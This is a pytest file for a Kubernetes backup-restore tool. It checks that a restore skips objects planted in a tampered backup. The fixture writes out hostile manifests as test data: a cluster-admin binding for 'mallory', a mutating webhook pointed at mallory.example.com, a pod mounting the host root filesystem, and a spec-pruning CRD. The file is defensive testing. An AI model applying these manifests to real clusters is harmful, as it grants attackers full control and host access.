"""Attacks by whoever can write the store, on the real API server (docs/security.md): a plaintext backup's digests
can be recomputed, so a bucket writer can add any member. A restore creates only what it was asked for: custom
resources, their CRDs and namespaces; built-in types when named; privileged ones when also allowed. Each test
fails without restore/planning/trust.py (the restore created every smuggled object and exited 0)."""

from __future__ import annotations

import dataclasses
import json
from typing import Any

import orjson
import pytest

from statusvault.archive import member_path
from statusvault.backup import ResourceSummary
from statusvault.errors import ExitStatus
from statusvault.kube.discovery import discover
from statusvault.model import ResourceType, object_key
from statusvault.testing.fixtures import install_crds
from statusvault.vocabulary.kinds import NAMESPACES
from tests.builders import crd, unique
from tests.hostile import Backup

pytestmark = pytest.mark.version_neutral(
    "the restore's own choice of what to write: the same on every version (RBAC and admission are v1 on both)"
)
RBAC = "rbac.authorization.k8s.io"
ADMISSION = "admissionregistration.k8s.io"


def smuggled(ns: str, tag: str) -> list[tuple[str, dict[str, Any]]]:
    """(qualified resource, object): what a store writer adds to get cluster-admin or run code."""
    binding = {
        "apiVersion": f"{RBAC}/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": f"{tag}-admin"},
        "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"apiGroup": RBAC, "kind": "User", "name": "mallory"}],
    }
    webhook = {
        "apiVersion": f"{ADMISSION}/v1",
        "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": f"{tag}-hook"},
        "webhooks": [
            {
                "name": "steal.example.com",
                "clientConfig": {"url": "https://mallory.example.com/mutate"},
                "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["CREATE"], "resources": ["*"]}],
                "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
                "failurePolicy": "Ignore",
            }
        ],
    }
    secret = {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "creds", "namespace": ns}, "data": {}}
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "root", "namespace": ns},
        "spec": {
            "containers": [
                {"name": "c", "image": "mallory/root:1", "volumeMounts": [{"name": "h", "mountPath": "/h"}]}
            ],
            "volumes": [{"name": "h", "hostPath": {"path": "/"}}],
        },
    }
    return [
        (f"clusterrolebindings.{RBAC}", binding),
        (f"mutatingwebhookconfigurations.{ADMISSION}", webhook),
        ("secrets", secret),
        ("pods", pod),
    ]


def plant_smuggled(storage, kube, name: str, ns: str, tag: str) -> dict[str, ResourceType]:
    """The base backup with the smuggled members added, hashes and manifests recomputed (tests/hostile.py);
    the manifest claims the smuggled types are custom resources, as an attacker would."""
    b = Backup.base(name, ns)
    d = discover(kube)
    types = {q: d.resolve(q) for q, _ in smuggled(ns, tag)}
    for qualified, obj in smuggled(ns, tag):
        claimed = dataclasses.replace(types[qualified], custom=True)
        b.members.append((member_path(object_key(claimed, obj)), orjson.dumps(obj, option=orjson.OPT_SORT_KEYS)))
        summary = ResourceSummary(claimed)
        summary.count = 1
        b.head["resources"][qualified] = summary.to_dict()
        b.head["totals"]["objects"] += 1
    b.restate()
    b.planted().write(storage, name)
    return types


@pytest.fixture
def attack(run, kube, crds, cleanup):
    """A planted backup holding the base objects (custom resources) and the smuggled ones; the cluster-scoped
    ones that a failing restore creates are cleaned up after the test."""
    ns, tag = unique("trust"), unique("evil")
    name = f"b-{tag}"
    types = plant_smuggled(run.storage, kube, name, ns, tag)
    cleanup(types[f"clusterrolebindings.{RBAC}"], f"{tag}-admin")
    cleanup(types[f"mutatingwebhookconfigurations.{ADMISSION}"], f"{tag}-hook")
    yield name, ns, tag, types
    if kube.get(NAMESPACES, None, ns) is not None:
        kube.delete(NAMESPACES, None, ns)
    cleanup(crds.resolve("clusterpools"), f"{ns}-pool")


def none_written(kube, types, ns: str, tag: str) -> dict[str, bool]:
    return {
        "binding": kube.get(types[f"clusterrolebindings.{RBAC}"], None, f"{tag}-admin") is None,
        "webhook": kube.get(types[f"mutatingwebhookconfigurations.{ADMISSION}"], None, f"{tag}-hook") is None,
        "secret": kube.get(types["secrets"], ns, "creds") is None,
        "pod": kube.get(types["pods"], ns, "root") is None,
    }


@pytest.mark.parametrize("args", [[], ["-n", "NS"]], ids=["plain", "namespace"])
def test_a_plain_restore_creates_the_custom_resources_and_nothing_a_store_writer_added(run, kube, attack, args):
    name, ns, tag, types = attack
    result = run("restore", name, *[ns if a == "NS" else a for a in args], "-o", "json")

    assert result.code == ExitStatus.SUCCESS, result.err
    assert none_written(kube, types, ns, tag) == dict.fromkeys(("binding", "webhook", "secret", "pod"), True)
    assert kube.get(discover(kube).resolve("kubernetesclusters.xyz.example.com"), ns, "prod")["status"]
    report = json.loads(result.out)
    left_out = [w for w in report["warnings"] if w.startswith("left out ")]
    assert left_out and all(q in left_out[0] for q in ("clusterrolebindings", "secrets", "pods")), report["warnings"]


def test_a_dry_run_lists_no_smuggled_object_and_says_what_it_left_out(run, kube, attack):
    name, ns, tag, types = attack
    result = run("restore", name, "--dry-run", "client", "-o", "json")

    assert result.code == ExitStatus.SUCCESS, result.err
    report = json.loads(result.out)
    assert {i["resource"] for i in report["items"]} <= {
        "kubernetesclusters.xyz.example.com",
        "clusterpools.infra.example.com",
        "namespaces",
    }
    assert any(w.startswith("left out 4 object(s) of built-in types") for w in report["warnings"])


@pytest.mark.parametrize("named", [f"clusterrolebindings.{RBAC}", "pods", "secrets", "*"])
def test_naming_a_privileged_type_is_refused_before_any_write_unless_allowed(run, kube, attack, named):
    name, ns, tag, types = attack
    refused = run("restore", name, "--include-resources", named)

    assert refused.code == ExitStatus.USAGE, refused.out + refused.err
    assert refused.err.startswith("error: --include-resources names privileged type(s):")
    assert "--allow-privileged-resources" in refused.err and len(refused.err.strip().splitlines()) == 1
    assert kube.get(NAMESPACES, None, ns) is None, "nothing written"
    assert none_written(kube, types, ns, tag) == dict.fromkeys(("binding", "webhook", "secret", "pod"), True)


def test_an_allowed_privileged_type_is_written_and_reported_as_privileged(run, kube, attack):
    name, ns, tag, types = attack
    result = run(
        "restore", name, "--include-resources", "secrets,kubernetesclusters.xyz.example.com",
        "--allow-privileged-resources", "secrets", "-o", "json",
    )  # fmt: skip

    assert result.code == ExitStatus.SUCCESS, result.err
    assert none_written(kube, types, ns, tag) == {"binding": True, "webhook": True, "secret": False, "pod": True}
    warnings = json.loads(result.out)["warnings"]
    assert any(w.startswith("privileged: 1 object(s) of secrets (credentials") for w in warnings), warnings


def test_policy_update_does_not_replace_a_live_crd_unless_allowed(run, kube, crds, cleanup):
    """A store writer's CRD of an existing type, with a schema that prunes every object's spec: update keeps
    the live CRD unless CRD replacement is allowed."""
    group, ns = f"{unique('trustcrd')}.example.com", unique("trustcrd")
    install_crds(kube, [crd(group, "Gadget")])
    crds_rt = discover(kube).resolve("customresourcedefinitions.apiextensions.k8s.io")
    gadgets = f"gadgets.{group}"
    cleanup(crds_rt, gadgets)
    cleanup(crds.resolve("clusterpools"), f"{ns}-pool")
    b = Backup.base("b-crd", ns)
    hostile = crd(group, "Gadget", schema={"type": "object", "properties": {"metadata": {"type": "object"}}})
    b.members.insert(0, (member_path(object_key(crds_rt, hostile)), orjson.dumps(hostile)))
    summary = ResourceSummary(crds_rt)
    summary.count = 1
    b.head["resources"][crds_rt.qualified] = summary.to_dict()
    b.head["totals"]["objects"] += 1
    b.restate()
    b.planted().write(run.storage, "b-crd")
    try:
        kept = run("restore", "b-crd", "--existing-resource-policy", "update", "-o", "json")

        assert kept.code == ExitStatus.SUCCESS, kept.err
        live = kube.get(crds_rt, None, gadgets)
        schema = live["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
        assert schema.get("x-kubernetes-preserve-unknown-fields") is True, "the live CRD, not the backup's"
        assert any("kept 1 existing CRD(s)" in w for w in json.loads(kept.out)["warnings"])

        replaced = run(
            "restore", "b-crd", "--existing-resource-policy", "update", "--allow-privileged-resources",
            crds_rt.qualified, "--restart",
        )  # fmt: skip
        assert replaced.code == ExitStatus.SUCCESS, replaced.err
        live = kube.get(crds_rt, None, gadgets)
        assert "x-kubernetes-preserve-unknown-fields" not in live["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    finally:
        if kube.get(NAMESPACES, None, ns) is not None:
            kube.delete(NAMESPACES, None, ns)


def test_a_restore_resource_cannot_allow_privileged_types(run, kube, crds, attack):
    """A Restore author asks the controller for the smuggled Secret, with the allowance a CLI user would give:
    the CRD has no such field (the server prunes it), so the named privileged type is refused and nothing of the
    backup is written."""
    from statusvault.cli.specfields import crds as restore_crds
    from statusvault.testing.fixtures import ensure_namespace

    name, ns, tag, types = attack
    restores = install_crds(kube, restore_crds()).by_qualified("restores.statusvault.dev")
    ctl = unique("trustctl")
    ensure_namespace(kube, ctl)
    spec = {"backup": name, "include-resources": ["secrets"], "allow-privileged-resources": ["*"]}
    made = kube.create(restores, ctl, {"apiVersion": "statusvault.dev/v1alpha1", "kind": "Restore",
                                       "metadata": {"name": "mine"}, "spec": spec})  # fmt: skip
    assert "allow-privileged-resources" not in made["spec"], "no such field: the server prunes it"
    try:
        result = run("controller", "run", "-n", ctl, "--once")
        assert result.code == 0, result.err
        status = kube.get(restores, ctl, "mine")["status"]
        assert status["phase"] != "Complete" and "privileged" in status["message"], status
        assert none_written(kube, types, ns, tag) == dict.fromkeys(("binding", "webhook", "secret", "pod"), True)
    finally:
        kube.delete(NAMESPACES, None, ctl)
